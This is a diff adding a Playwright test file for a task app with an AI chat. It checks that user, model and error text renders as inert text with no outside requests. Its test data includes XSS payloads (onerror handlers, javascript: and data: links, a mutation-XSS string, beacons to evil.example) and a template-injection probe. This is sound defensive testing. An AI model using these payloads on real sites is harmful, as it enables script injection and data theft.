@@ -1,0 +1,122 @@
+"""Script in every field is text, wherever it is shown: nothing runs, and nothing is asked of another host."""
+
+from collections.abc import AsyncIterator
+from urllib.parse import urlsplit
+
+import pytest
+from playwright.async_api import Dialog, Request, expect
+
+from tests.browser.conftest import NewPerson
+from tests.browser.person import Person
+from tests.e2e.conftest import Server
+
+SCRIPT = '<img src=x onerror="window.hacked=1"><script>window.hacked=1;alert(1)</script>\'"${7*7}'
+ANSWERS = [
+    SCRIPT,
+    "<svg onload=window.hacked=1></svg><iframe src='https://evil.example/frame'></iframe><form>",
+    "[press](javascript:window.hacked=1) <a href='javascript:window.hacked=1' onclick='window.hacked=1'>here</a>",
+    "![picture](https://evil.example/read?what=tasks) <img src='https://evil.example/pixel'> <video src=//a.b>",
+    "<style>@import url(https://evil.example/style);</style><p style='background:url(//evil.example/paint)'>painted",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.hacked=1&gt;'>",
+    "<a href='data:text/html,<script>window.hacked=1</script>' ping='//a.b'>data</a><base href='//evil.example'>",
+]
+
+
+@pytest.fixture
+async def watched(assisted: Server, somebody: NewPerson) -> AsyncIterator[Person]:
+    """Whatever is shown to this person, nothing of it runs."""
+    person = await somebody(assisted)
+    asked: list[Request] = []
+    opened: list[str] = []
+
+    async def note(dialog: Dialog) -> None:
+        opened.append(dialog.message)
+        await dialog.dismiss()
+
+    person.context.on("request", lambda request: asked.append(request))
+    person.page.on("dialog", note)
+    yield person
+    await _click_all_links(person)
+    assert await person.page.evaluate("window.hacked") is None
+    assert opened == []
+    here = urlsplit(assisted.url).netloc
+    assert {urlsplit(each.url).netloc for each in asked if not each.url.startswith(("blob:", "data:"))} <= {here}
+
+
+@pytest.fixture
+async def sanitised(watched: Person, troubles: list[str]) -> AsyncIterator[Person]:
+    """The document in which the sanitiser reads, and which nobody sees, is under the page's policy too."""
+    yield watched
+    troubles[:] = [each for each in troubles if "The action has been blocked" not in each]
+
+
+async def _click_all_links(person: Person) -> None:
+    for link in await person.page.locator(".message a").all():
+        assert (await link.get_attribute("href") or "https:").startswith(("https:", "http:", "mailto:"))
+        await link.evaluate("link => (link.target = '_self', link.removeAttribute('href'), link.click())")
+
+
+async def test_script_in_a_task_is_text_in_the_list_in_its_form_and_in_notices(watched: Person) -> None:
+    await watched.adds(SCRIPT)
+    await watched.sees_tasks(SCRIPT)
+    await watched.titles.first.click()
+    await watched.page.get_by_label("Description").fill(SCRIPT)
+    await watched.page.get_by_label("Title").press("Enter")
+    await expect(watched.tasks.locator("small")).to_have_text(SCRIPT)
+    await watched.page.get_by_label("Delete: ").click()
+    await expect(watched.notice(f"Deleted: {SCRIPT}")).to_be_visible()
+    await watched.button("Trash").click()
+    await watched.sees_tasks(SCRIPT)
+
+
+async def test_script_in_what_is_said_and_done_in_a_conversation_is_text(watched: Person) -> None:
+    await watched.says(f"add {SCRIPT}")
+    await expect(watched.page.locator(".message.user")).to_have_text(f"add {SCRIPT}")
+    await expect(watched.answers.last.locator(".call")).to_have_text(f"Added task 1: {SCRIPT}")
+    await watched.sees_tasks(SCRIPT)
+    await expect(watched.button("Rename")).to_be_visible()
+    await watched.ask("PATCH", "/api/users/me/conversations/default", {"title": SCRIPT})
+    await watched.page.reload()
+    await expect(watched.page.locator("select option").first).to_have_text(SCRIPT)
+
+
+@pytest.mark.parametrize("answer", ANSWERS)
+async def test_what_a_model_says_is_markdown_without_script_pictures_or_frames(sanitised: Person, answer: str) -> None:
+    await sanitised.says(f"say **bold** {answer}")
+    await expect(sanitised.answers.last.locator("strong").first).to_have_text("bold")
+    await expect(sanitised.button("Answer anew")).to_be_visible()
+    forbidden = "img, svg, iframe, form, video, style, base, script, [style], [onclick], [onerror], [ping]"
+    await expect(sanitised.answers.locator(".text").locator(forbidden)).to_have_count(0)
+
+
+async def test_script_in_the_name_of_a_token_is_text(watched: Person) -> None:
+    await watched.page.get_by_role("link", name="Connect an AI").click()
+    await watched.page.get_by_label("What is it for?").fill(SCRIPT[:100])
+    await watched.button("Make a token").click()
+    await expect(watched.page.locator(".tokens li")).to_contain_text(SCRIPT[:60])
+
+
+async def test_script_in_a_refusal_is_text(watched: Person) -> None:
+    detail = {"code": "X", "message": SCRIPT, "request_id": SCRIPT}
+    refused = {"status": 409, "json": {"detail": detail}}
+    await watched.page.route("**/tasks", lambda route: route.fulfill(**refused))
+    await watched.page.route("**/chat", lambda route: route.fulfill(**refused))
+    await watched.adds("Buy milk")
+    await expect(watched.notice(SCRIPT)).to_be_visible()
+    await watched.says("say hello")
+    await watched.sees_answer(SCRIPT)
+
+
+async def test_markup_in_an_address_is_text(assisted: Server, newcomer: NewPerson) -> None:
+    dora = await newcomer(assisted)
+    dora.email = "o'hara&amp{b}${7*7}=`x`@example.com"
+    await dora.sign_up()
+    await dora.opens("/#/account")
+    await expect(dora.page.get_by_text(dora.email, exact=True)).to_be_visible()
+
+
+async def test_a_link_of_an_answer_opens_elsewhere_and_tells_nothing_of_here(watched: Person) -> None:
+    await watched.says("say See [the page](https://example.org/page).")
+    link = watched.answers.last.get_by_role("link", name="the page")
+    await expect(link).to_have_attribute("target", "_blank")
+    await expect(link).to_have_attribute("rel", "noopener noreferrer")
